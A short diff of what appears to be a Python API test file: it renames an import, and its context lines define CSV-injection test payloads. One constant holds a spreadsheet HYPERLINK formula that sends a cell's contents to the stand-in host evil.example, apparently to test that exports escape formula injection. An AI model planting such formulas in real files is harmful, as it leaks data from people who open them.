@@ -27,7 +27,7 @@ from tests.api.helpers import (
     receive,
     register_unit,
 )
-from tests.api.test_imports import finished
+from tests.api.test_bank_imports import finished
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
 #: The classic CSV-injection payloads (OWASP), each starting a formula in Excel or Calc.
